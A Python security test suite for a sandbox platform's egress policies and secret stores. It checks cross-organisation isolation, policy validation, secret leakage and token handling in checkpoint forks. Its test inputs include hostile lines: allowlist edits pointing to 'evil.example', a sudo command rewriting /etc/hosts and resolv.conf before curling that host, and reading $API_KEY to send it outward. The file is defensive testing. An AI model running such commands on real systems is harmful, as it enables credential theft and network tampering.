"""Policies and secrets as the API takes them."""

import json
import uuid

from egress.conftest import Store, prepared, python
from egress.table import attack


@attack("ids-of-another-organisation", "every call about stores, secrets, policies and reports with another organisation's ids", "404, as for an id that does not exist")
def _(w):
    store = Store(w.other_api)
    store.set("K", "theirs-" + uuid.uuid4().hex, ["api.test.example"])
    calls = [
        ("GET", store.path, None), ("PUT", store.path, {"egressAllowlist": ["evil.example"]}), ("DELETE", store.path, None),
        ("GET", f"{store.path}/secrets", None), ("PUT", f"{store.path}/secrets/K", {"value": "mine", "allowedHosts": ["evil.example"]}),
        ("DELETE", f"{store.path}/secrets/K", None), ("GET", f"{store.path}/secrets/K/uses", None),
        ("GET", f"{w.foreign.path}/allowed-hosts", None), ("PUT", f"{w.foreign.path}/egress", {"mode": "open"}),
    ]
    for method, path, body in calls:
        answer = w.api.call(method, path, **({"json": body} if body is not None else {}))
        assert answer.status_code == 404, (method, path, answer.status_code, answer.text)
    assert store.api.get(f"{store.path}/secrets").json()[0]["allowedHosts"] == ["api.test.example"]
    assert all(each["id"] != store.id for each in w.api.get("/api/secret-stores").json())
    return f"{len(calls)} calls, 404 each"


@attack("policies-that-mean-nothing", "modes, fields, hosts, ports, methods and paths that are none, at create and while running", "400 with a sentence, and nothing changes: a field that protects is never ignored")
def _(w):
    bad = [
        {"mode": "allow"}, {"mode": "open", "allow": [{"host": "a.com"}]}, {"mode": "allowlist", "allow": [{"host": "a.com", "port": 443}]},
        {"mode": "allowlist", "allow": [{"host": "https://a.com"}]}, {"mode": "allowlist", "allow": [{"host": "a.com:443"}]},
        {"mode": "allowlist", "allow": [{"host": "a.*.com"}]}, {"mode": "allowlist", "allow": [{"host": "10.0.0.0/8"}]},
        {"mode": "allowlist", "allow": [{"host": "a.com", "ports": [0]}]}, {"mode": "allowlist", "allow": [{"host": "a.com", "ports": [70000]}]},
        {"mode": "allowlist", "allow": [{"host": "a.com", "methods": ["get"]}]}, {"mode": "allowlist", "allow": [{"host": "a.com", "paths": ["v1"]}]},
        {"mode": "allowlist", "deny": []}, {"mode": "allowlist", "allow": [{"host": "2130706433"}]}, {"mode": "allowlist", "allow": "a.com"},
        {"mode": "allowlist", "allow": [{"host": f"h{i}.com"} for i in range(1001)]}, "none", ["a.com"], 5,
    ]
    before = w.fenced.call("GET", "/allowed-hosts").json()["egressAllowlist"]
    for policy in bad:
        answer = w.api.post("/api/sandboxes", json={"memoryMB": 1024, "egress": policy})
        assert answer.status_code == 400, (policy, answer.status_code, answer.text[:300])
        answer = w.fenced.call("PUT", "/egress", json=policy)
        assert answer.status_code == 400, (policy, answer.status_code, answer.text[:300])
    assert w.fenced.call("GET", "/allowed-hosts").json()["egressAllowlist"] == before
    return f"{2 * len(bad)} calls, 400 each: {answer.json()['error'][:60]}"


@attack("secrets-through-the-api", "getting a value out of any answer: stores, entries, sandboxes, reports, logs, errors", "values go in and never come out")
def _(w):
    paths = ["/api/secret-stores", w.store.path, f"{w.store.path}/secrets", f"{w.store.path}/secrets/API_KEY/uses", w.fenced.path, "/api/sandboxes", f"{w.fenced.path}/allowed-hosts", f"{w.fenced.path}/logs?tail=false"]
    said = {path: w.api.get(path) for path in paths}
    assert all(answer.status_code == 200 for answer in said.values()), {path: answer.status_code for path, answer in said.items()}
    w.no_value_in([answer.text for answer in said.values()], [dict(answer.headers) for answer in said.values()])
    bad = [w.api.put(f"{w.store.path}/secrets/bad-name", json={"value": w.value}), w.api.put(f"{w.store.path}/secrets/K2", json={"value": w.value, "allowedHosts": [""]}), w.api.put(f"{w.store.path}/secrets/K2", json={"value": [w.value]}), w.api.put(f"{w.store.path}/secrets/K2", content=b'{"value": "' + w.value.encode() + b'" ')]
    assert all(answer.status_code == 400 for answer in bad), [answer.text for answer in bad]
    w.no_value_in([answer.text for answer in bad])
    return f"{len(paths)} answers and {len(bad)} errors without it"


@attack("fork-of-anothers-checkpoint", "a fork by the other organisation, to inherit the store", "a checkpoint that is not published is its organisation's alone")
def _(w):
    checkpoint = w.fenced.checkpoint(f"c-{uuid.uuid4().hex[:6]}")
    answer = w.other_api.post(f"/api/sandboxes/from-checkpoint/{checkpoint}", json={})
    assert answer.status_code in (403, 404), answer.text
    w.fenced.call("DELETE", f"/checkpoints/{checkpoint}")
    return f"{answer.status_code} {answer.json()['error']}"


@attack("tokens-of-the-parent-in-a-fork", "the parent's tokens, read from the disk of its checkpoint, used in a fork", "a fork has tokens of its own; the parent's mean nothing there")
def _(w):
    mark = w.mark()
    token = w.fenced.out("echo $API_KEY | tee /home/sandbox/kept").strip()
    checkpoint = w.fenced.checkpoint(f"c-{uuid.uuid4().hex[:6]}")
    with w.api.fork(checkpoint) as fork:
        own = fork.out("echo $API_KEY").strip()
        assert own.startswith("osb_sealed_") and own != token and fork.out("cat /home/sandbox/kept").strip() == token
        python(prepared(fork), "say([get('api.test.example', '/status/200?' + mark, {'X-Key': key}) for key in (old, KEY)])", mark=mark, old=token)
    w.fenced.call("DELETE", f"/checkpoints/{checkpoint}")
    arrived = [dict(each["headers"]).get("X-Key") or dict(each["headers"]).get("x-key") for each in w.arrived(mark)]
    assert arrived == [token, w.value], arrived
    return "the old token went out as it is, the new one as the value"


@attack("guest-changing-its-policy", "changing policy, secrets or report from inside the sandbox: its token for the API, the host's port, files and variables", "policy is the control plane's and the API is not reachable from inside; variables are a convenience")
def _(w):
    mark = w.mark()
    command = f"sudo -n sh -c 'echo {w.net.evil} api.test.example evil.example >> /etc/hosts; echo nameserver {w.net.dns} > /etc/resolv.conf' 2>/dev/null; env -i curl -sS -m 4 -o /dev/null -w '%{{http_code}}' https://evil.example/{mark} 2>&1; env -i curl -sSk -m 4 https://api.test.example/status/200?{mark} -o /dev/null -w '%{{http_code}}' 2>&1"
    with prepared(w.api.create(egress=w.policy, secretStore=w.store.name)) as box:
        said = box.run(command)["stdout"]
    arrived = w.arrived(mark)
    assert all(each["local"] == w.net.web for each in arrived), arrived
    assert "evil.example" not in json.dumps([each.get("host") for each in arrived])
    return said.strip()[-80:]
